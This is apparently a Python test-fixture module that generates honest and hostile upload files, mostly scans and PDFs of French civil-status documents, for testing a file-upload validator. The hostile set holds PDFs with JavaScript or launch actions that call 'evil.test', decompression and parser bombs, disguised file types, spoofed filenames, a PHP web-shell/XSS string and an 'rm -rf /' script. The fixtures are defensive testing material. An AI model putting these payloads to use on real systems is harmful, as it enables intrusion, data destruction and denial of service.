"""Files that people and attackers send, made in memory: honest ones and hostile ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

SCRIPT = b"<script>alert(document.cookie)</script><?php system($_GET['c']); ?>"


# Honest files


def text_picture(size: tuple[int, int] = (1400, 1000), mode: str = "RGB") -> Image.Image:
    """A page with sharp writing, as a scanner gives it."""
    picture = Image.new("RGB", size, (252, 250, 244))
    draw = ImageDraw.Draw(picture)
    for line in range(40, size[1] - 60, 42):
        draw.text((50, line), "Extrait d'acte de naissance, commune de Nîmes " * 3, "black")
        draw.rectangle((50, line + 22, size[0] - 80, line + 24), fill="black")
    return picture.convert(mode)


def sixteen_bits() -> Image.Image:
    """What some scanners make of a grey page: 65,536 shades."""
    return text_picture(mode="L").convert("I").point(lambda value: value * 257).convert("I;16")


def encoded(picture: Image.Image, file_format: str, **options: Any) -> bytes:
    target = io.BytesIO()
    picture.save(target, file_format, **options)
    return target.getvalue()


def jpeg(**options: Any) -> bytes:
    return encoded(text_picture(), "JPEG", **options)


def png(mode: str = "RGB") -> bytes:
    return encoded(text_picture(mode=mode), "PNG")


def heic() -> bytes:
    import pillow_heif  # noqa: PLC0415 -- slow import

    target = io.BytesIO()
    pillow_heif.from_pillow(text_picture()).save(target)
    return target.getvalue()


#: What some scanners send to a printer before the document.
PRINTER_ORDERS = b"\x1b%-12345X@PJL SET JOBNAME=SCAN\r\n@PJL ENTER LANGUAGE=PDF\r\n"


def table_from_1(document: bytes) -> bytes:
    """The table of objects numbered from 1, as some scanners write it."""
    assert b"xref\n0 " in document
    return document.replace(b"xref\n0 ", b"xref\n1 ", 1)


def gps_jpeg() -> bytes:
    """A photo that tells where it was taken and by whom, turned by its orientation tag."""
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: a quarter turn
    exif[0x010E] = "CANARI-DESCRIPTION"
    exif[0x8769] = {0x9286: "CANARI-COMMENT"}
    exif[0x8825] = {1: "N", 2: (44.0, 0.0, 44.0), 3: "E", 4: (4.0, 25.0, 12.0)}
    return jpeg(exif=exif, icc_profile=b"CANARI-ICC" * 20, comment=b"CANARI-JPEG-COMMENT")


def pdf(
    *, pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any
) -> bytes:
    """A PDF with a line of text a page, after `change` has had its way with it."""
    document = pikepdf.new()
    for number in range(pages):
        page = document.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(
            Font=Dictionary(
                F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
        )
        words = b"BT /F1 24 Tf 60 %d Td (Acte de naissance page %d) Tj ET\n"
        page.Contents = document.make_stream(
            b"".join(words % (780 - 40 * line, number) for line in range(15))
        )
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()


def scanned_pdf(*photos: bytes) -> bytes:
    """What a phone's « scan to PDF » makes: one photo a page, as it was taken."""

    def change(document: pikepdf.Pdf) -> None:
        for page, photo in zip(document.pages, photos, strict=True):
            width, height = Image.open(io.BytesIO(photo)).size
            picture = pikepdf.Stream(document, photo)
            picture.Type, picture.Subtype = Name.XObject, Name.Image
            picture.Width, picture.Height = width, height
            picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
            picture.Filter = Name.DCTDecode
            page.Resources = Dictionary(XObject=Dictionary(Im0=picture))
            page.Contents = document.make_stream(b"595 0 0 420 0 200 cm /Im0 Do")

    return pdf(pages=len(photos), change=change)


# PDFs that act


def javascript_action() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('bonjour')"))


def active_pdfs() -> dict[str, bytes]:
    def annotation(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
        def change(document: pikepdf.Pdf) -> None:
            document.pages[0].Annots = Array(
                [Dictionary(Type=Name.Annot, Rect=[0, 0, 100, 100], **entries)]
            )

        return change

    def catalog(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
        def change(document: pikepdf.Pdf) -> None:
            for key, value in entries.items():
                document.Root[f"/{key}"] = value

        return change

    def attach(document: pikepdf.Pdf) -> None:
        document.attachments["facture.exe"] = b"MZ this is a program"

    def indirect_script(document: pikepdf.Pdf) -> None:
        script = document.make_indirect(javascript_action())
        chain = document.make_indirect(
            Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit], Next=script)
        )
        document.Root.OpenAction = chain

    def stream_script(document: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))
        document.Root.Outlines = Dictionary(
            First=document.make_indirect(Dictionary(Title=String("Lire"), A=action))
        )

    def page_trigger(document: pikepdf.Pdf) -> None:
        document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("http://x.test")))

    def external_stream(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        stream.F = Dictionary(Type=Name.Filespec, F=String("//evil.test/share"))
        document.Root.Outside = stream

    def fake_adobe_form(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([Dictionary(T=String("nom"), FT=Name.Tx)]))
        document.Root.Names = Dictionary(
            JavaScript=Dictionary(
                Names=Array(
                    [
                        String("!ADBE::0100"),
                        javascript_action(),
                        String("mine"),
                        javascript_action(),
                    ]
                )
            )
        )

    changes: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "open_action_javascript": catalog(OpenAction=javascript_action()),
        "open_action_next_javascript": indirect_script,
        "open_action_uri": catalog(
            OpenAction=Dictionary(S=Name.URI, URI=String("http://evil.test"))
        ),
        "names_javascript": catalog(
            Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), javascript_action()])))
        ),
        "mixed_adobe_and_own_javascript": fake_adobe_form,
        "outline_javascript_stream": stream_script,
        "catalog_additional_actions": catalog(AA=Dictionary(WC=javascript_action())),
        "page_additional_actions": page_trigger,
        "launch": annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "submit_form": annotation(
            Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.test"))
        ),
        "import_data": annotation(
            Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf"))
        ),
        "go_to_remote": annotation(
            Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("//evil.test/a.pdf"))
        ),
        "go_to_embedded": annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToE)),
        "rich_media": annotation(Subtype=Name.RichMedia),
        "movie": annotation(Subtype=Name.Movie),
        "screen_rendition": annotation(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition)),
        "file_attachment": annotation(
            Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a.exe"))
        ),
        "embedded_file": attach,
        "xfa": catalog(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp:xdp/>"))),
        "external_stream": external_stream,
    }
    files = {name: pdf(change=change) for name, change in changes.items()}
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    files["javascript_in_object_stream"] = pdf(change=changes["names_javascript"], **packed)
    files["launch_in_object_stream"] = pdf(change=changes["launch"], **packed)
    files["javascript_name_in_hexadecimal"] = pdf(
        change=changes["open_action_javascript"],
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    ).replace(b"/JavaScript", b"/J#61vaScript")
    return files


# Bombs


def png_bomb() -> bytes:
    """400 million pixels in 50 KB."""
    width = height = 20_000
    row = b"\0" + b"\xff" * (width // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))
        )

    header = struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def deep_pdf(depth: int = 200_000) -> bytes:
    """Arrays within arrays, to exhaust the stack of a recursive parser."""
    nested = b"[" * depth + b"]" * depth
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X "
        + nested
        + (
            b">>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF"
        )
    )


def inflating_pdf() -> bytes:
    """A page whose content is 200 MB once inflated."""

    def change(document: pikepdf.Pdf) -> None:
        packer = zlib.compressobj(9)
        megabyte = b" " * 1_000_000
        body = b"".join(packer.compress(megabyte) for _ in range(200)) + packer.flush()
        stream = pikepdf.Stream(document, body)
        stream.Filter = Name.FlateDecode
        document.pages[0].Contents = stream

    return pdf(change=change, compress_streams=False)


def twice_packed_pdf() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, zlib.compress(zlib.compress(b"\0" * 50_000_000)))
        stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        document.pages[0].Contents = stream

    return pdf(change=change, compress_streams=False)


def looping_pages_pdf() -> bytes:
    """A page tree that contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def _packed(entries: bytes, body: bytes) -> bytes:
    packed = zlib.compress(body, 9)
    return b"<<%b/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (
        entries,
        len(packed),
        packed,
    )


def _with_xref_stream(bodies: dict[int, bytes], packed_in: dict[int, int], *, more: bytes) -> bytes:
    """A PDF 1.5 of these objects; those of `packed_in` lie first in the object stream named."""
    out, rows, last = b"%PDF-1.5\n", {}, max(bodies | packed_in) + 1
    for number, body in bodies.items():
        rows[number] = b"\x01" + len(out).to_bytes(4, "big") + b"\0\0"
        out += b"%d 0 obj" % number + body + b"\nendobj\n"
    for number, holder in packed_in.items():
        rows[number] = b"\x02" + holder.to_bytes(4, "big") + b"\0\0"
    start = len(out)
    rows[last] = b"\x01" + start.to_bytes(4, "big") + b"\0\0"
    table = b"".join(rows.get(number, b"\0" * 7) for number in range(last + 1))
    entries = b"/Type/XRef/W[1 4 2]/Root 1 0 R/Size %d" % (last + 1)
    entries += more.replace(b"START", b"%d" % start)
    out += b"%d 0 obj" % last + _packed(entries, table) + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF" % start


_PAGE = {
    1: b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>",
    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
}


def _many_object_streams() -> bytes:
    """400 MB once inflated, of which every object is asked for."""
    many = 400
    holders = {
        10 + n: _packed(
            b"/Type/ObjStm/N 1/First 8", b"%d 0  [ " % (1000 + n) + b"0 " * 500_000 + b"]"
        )
        for n in range(many)
    }
    wanted = b"[%b]" % b" ".join(b"%d 0 R" % (1000 + n) for n in range(many))
    return _with_xref_stream(
        {**_PAGE, 5: wanted, **holders}, {1000 + n: 10 + n for n in range(many)}, more=b""
    )


_STREAM = b"/Type/ObjStm/N 1/First 4"


def _one_object_stream(body: bytes, entries: bytes = _STREAM) -> bytes:
    return _with_xref_stream({**_PAGE, 9: _packed(entries, body)}, {5: 9}, more=b"")


#: Files of PDF 1.5 that cost a parser more than they weigh, a kind each; made when asked for.
OBJECT_STREAM_BOMBS: dict[str, Callable[[], bytes]] = {
    "objstm_many": _many_object_streams,
    "objstm_huge": lambda: _one_object_stream(b"5 0 " + b" " * 100_000_000 + b"1"),
    "objstm_deep": lambda: _one_object_stream(b"5 0 " + b"[" * 500_000 + b"]" * 500_000),
    "objstm_endless": lambda: _one_object_stream(b"5 0 1", b"/Type/ObjStm/N 2000000000/First 4"),
    "objstm_extends_itself": lambda: _with_xref_stream(
        {**_PAGE, 9: _packed(_STREAM + b"/Extends 9 0 R", b"5 0 [1]")}, {5: 9, 9: 9}, more=b""
    ),
    "xref_prev_loop": lambda: _with_xref_stream({**_PAGE, 5: b"1"}, {}, more=b"/Prev START"),
    "xref_huge_size": lambda: _with_xref_stream(
        {**_PAGE, 5: b"1"}, {}, more=b"/Index[0 2000000000]"
    ),
    "length_of_itself": lambda: _with_xref_stream(
        {**_PAGE, 5: b"<</Length 5 0 R>>stream\nx\nendstream"}, {}, more=b""
    ),
    "length_in_own_stream": lambda: _with_xref_stream(
        {**_PAGE, 9: b"<</Type/ObjStm/N 1/First 4/Length 5 0 R>>stream\n5 0 7\nendstream"},
        {5: 9},
        more=b"",
    ),
}


def nested_forms_pdf(depth: int = 30) -> bytes:
    """Forms that each paint the next one ten times: 10^30 paints in seven kilobytes."""

    def change(document: pikepdf.Pdf) -> None:
        inner = None
        for _ in range(depth):
            form = pikepdf.Stream(document, b"/F Do " * 10 if inner else b"0 0 1 1 re f")
            form.Type, form.Subtype = Name.XObject, Name.Form
            form.BBox = Array([0, 0, 600, 800])
            if inner is not None:
                form.Resources = Dictionary(XObject=Dictionary(F=inner))
            inner = document.make_indirect(form)
        page = document.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(F=inner))
        page.Contents = pikepdf.Stream(document, b"/F Do")

    return pdf(change=change)


def wide_tree_pdf(kids: int = 100_000) -> bytes:
    """A page tree that names one page a hundred thousand times."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids["
        + b"3 0 R " * kids
        + b"]/Count %d>>endobj\n" % kids
        + b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


# Disguises


def zip_file() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.html", SCRIPT)
    return target.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n"


def hostile_files() -> dict[str, tuple[str, bytes]]:
    """Case -> (name given by the sender, bytes): every one must be refused."""
    picture = text_picture((600, 400))
    small = encoded(picture, "JPEG")
    cases = {
        "svg_as_itself": ("dessin.svg", SVG),
        "svg_as_png": ("dessin.png", SVG),
        "svg_as_jpeg": ("dessin.jpg", SVG),
        "html_as_itself": ("page.html", HTML),
        "html_as_pdf": ("acte.pdf", HTML),
        "html_as_jpeg": ("photo.jpg", HTML),
        "html_with_pdf_inside": ("acte.pdf", HTML + pdf()),
        "gif_header_then_pdf": ("acte.pdf", b"GIF89a" + pdf()),
        "eps_as_itself": ("logo.eps", EPS),
        "eps_as_jpeg": ("logo.jpg", EPS),
        "eps_as_pdf": ("logo.pdf", EPS),
        "zip_as_itself": ("pieces.zip", zip_file()),
        "zip_as_pdf": ("pieces.pdf", zip_file()),
        "zip_then_pdf": ("pieces.pdf", zip_file() + pdf()),
        "gif_as_itself": ("photo.gif", encoded(picture, "GIF")),
        "gif_as_png": ("photo.png", encoded(picture, "GIF")),
        "bmp_as_png": ("photo.png", encoded(picture, "BMP")),
        "tiff_as_jpeg": ("photo.jpg", encoded(picture, "TIFF")),
        "webp_as_jpeg": ("photo.jpg", encoded(picture, "WEBP")),
        "avif_brand_as_heic": (
            "photo.heic",
            b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 99,
        ),
        "mp4_as_heic": ("photo.heic", b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0" * 99),
        "png_as_pdf": ("photo.pdf", encoded(picture, "PNG")),
        "pdf_as_jpeg": ("acte.jpg", pdf()),
        "program_as_pdf": ("acte.pdf", b"MZ\x90\0" + b"\0" * 200),
        "script_as_jpeg": ("photo.jpg", b"#!/bin/sh\nrm -rf /\n"),
        "script_without_extension": ("photo", b"#!/bin/sh\nrm -rf /\n"),
        "program_without_extension": ("acte", b"MZ\x90\0" + b"\0" * 200),
        "executable_extension": ("photo.jpg.exe", small),
        "php_before_jpeg": ("photo.php.jpg", small),
        "html_before_pdf": ("acte.html.pdf", pdf()),
        "null_byte": ("photo.php\0.jpg", small),
        "null_byte_before_extension": ("photo.jpg\0.exe", small),
        "right_to_left_override": ("photo\u202egpj.exe", small),
        "right_to_left_override_honest_end": ("exe\u202e.jpg", small),
        "zero_byte": ("photo.jpg", b""),
        "zero_byte_pdf": ("acte.pdf", b""),
        "header_only_jpeg": ("photo.jpg", b"\xff\xd8\xff\xe0"),
        "header_only_png": ("photo.png", b"\x89PNG\r\n\x1a\n"),
        "header_only_pdf": ("acte.pdf", b"%PDF-1.7\n"),
        "header_only_heic": ("photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
        "truncated_jpeg": ("photo.jpg", small[: len(small) // 2]),
        "truncated_png": ("photo.png", encoded(picture, "PNG")[:400]),
        "truncated_heic": ("photo.heic", heic()[:3000]),
        "jpeg_of_noise": ("photo.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 40),
        "png_bomb": ("plan.png", png_bomb()),
        "deep_pdf": ("acte.pdf", deep_pdf()),
        "inflating_pdf": ("acte.pdf", inflating_pdf()),
        "twice_packed_pdf": ("acte.pdf", twice_packed_pdf()),
        "looping_pages_pdf": ("acte.pdf", looping_pages_pdf()),
        "wide_tree_pdf": ("acte.pdf", wide_tree_pdf()),
        "too_many_pages": ("acte.pdf", pdf(pages=41)),
        "no_page": ("acte.pdf", pdf(pages=0)),
        "password": (
            "acte.pdf",
            pdf(encryption=pikepdf.Encryption(owner="maitre", user="secret", R=6)),
        ),
        "too_large": ("acte.pdf", pdf() + b"\0" * 10_000_000),
    }
    return cases | {f"pdf_{name}": ("acte.pdf", data) for name, data in active_pdfs().items()}


def honest_files() -> dict[str, tuple[str, bytes]]:
    """Case -> (name, bytes): every one must be accepted."""

    def open_on_first_page(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])

    def go_to_first_page(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(
            S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit])
        )

    def link(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=[0, 0, 100, 100],
                    A=Dictionary(S=Name.URI, URI=String("https://evil.test/CANARI-LINK")),
                )
            ]
        )

    def font_called_aa(document: pikepdf.Pdf) -> None:
        fonts = document.pages[0].Resources.Font
        fonts.AA = fonts.F1
        fonts.JS = fonts.F1

    def official_form(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(
            Fields=Array([Dictionary(T=String("nom"), FT=Name.Tx, V=String("Martin"))]),
            XFA=String("<xdp:xdp/>"),
        )
        document.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("!ADBE::0100_VersChk"), javascript_action()]))
        )

    def metadata(document: pikepdf.Pdf) -> None:
        with document.open_metadata() as xmp:
            xmp["dc:creator"] = ["CANARI-XMP"]
        document.docinfo.Author = String("CANARI-INFO")
        document.pages[0].PieceInfo = Dictionary(X=String("CANARI-PIECE"))

    return {
        "jpeg": ("IMG_0001.JPG", jpeg()),
        "jpeg_progressive": ("a.jpeg", jpeg(progressive=True)),
        "jpeg_grey": ("a.jpg", encoded(text_picture(mode="L"), "JPEG")),
        "jpeg_cmyk": ("a.jpg", encoded(text_picture(mode="CMYK"), "JPEG")),
        "jpeg_gps": ("a.jpg", gps_jpeg()),
        "jpeg_with_tail": ("a.jpg", jpeg() + zip_file() + SCRIPT),
        "png": ("a.png", png()),
        "png_transparent": ("a.png", png("RGBA")),
        "png_palette": ("a.png", png("P")),
        "png_black_and_white": ("a.png", png("1")),
        "png_sixteen_bits": ("a.png", encoded(sixteen_bits(), "PNG")),
        "heic": ("IMG_0001.HEIC", heic()),
        "heic_called_jpeg": ("IMG_0002.jpg", heic()),
        "jpeg_called_heic": ("IMG_0003.HEIC", jpeg()),
        "jpeg_called_png": ("photo.png", jpeg()),
        "jfif": ("acte.jfif", jpeg()),
        "no_extension": ("photo", jpeg()),
        "pdf_without_extension": ("acte", pdf()),
        "only_a_dot": (".", jpeg()),
        "hidden_file": (".jpg", jpeg()),
        "initials": ("Dupont.PL.jpg", jpeg()),
        "photo_of_48_million_points": (
            "grande.jpg",
            encoded(text_picture().resize((8064, 6048)), "JPEG", quality=40),
        ),
        "pdf_after_printer_orders": ("scan.pdf", PRINTER_ORDERS + pdf()),
        "pdf_whose_table_starts_at_1": ("scan.pdf", table_from_1(pdf())),
        "pdf": ("acte.pdf", pdf()),
        "pdf_capital": ("ACTE.PDF", pdf()),
        "pdf_many_pages": ("acte.pdf", pdf(pages=40)),
        "pdf_after_a_blank_line": ("acte.pdf", b"\r\n" + pdf()),
        "pdf_with_tail": ("acte.pdf", pdf() + zip_file() + SCRIPT),
        "pdf_open_action_destination": ("acte.pdf", pdf(change=open_on_first_page)),
        "pdf_open_action_go_to": ("acte.pdf", pdf(change=go_to_first_page)),
        "pdf_link": ("acte.pdf", pdf(change=link)),
        "pdf_font_called_aa": ("acte.pdf", pdf(change=font_called_aa)),
        "pdf_official_form": ("cerfa.pdf", pdf(change=official_form)),
        "pdf_metadata": ("acte.pdf", pdf(change=metadata)),
        "pdf_linearized": ("acte.pdf", pdf(pages=3, linearize=True)),
        "pdf_encrypted_without_password": (
            "acte.pdf",
            pdf(encryption=pikepdf.Encryption(owner="maitre", user="", R=6)),
        ),
        "pdf_scan": ("scan.pdf", scanned_pdf(gps_jpeg(), jpeg())),
        "name_with_accents": ("Pièce d’identité – Zoë (recto).pdf", pdf()),
        "name_with_folder": ("C:\\Users\\Zoë\\acte.pdf", pdf()),
        "name_with_two_dots": ("acte.naissance.pdf", pdf()),
    }
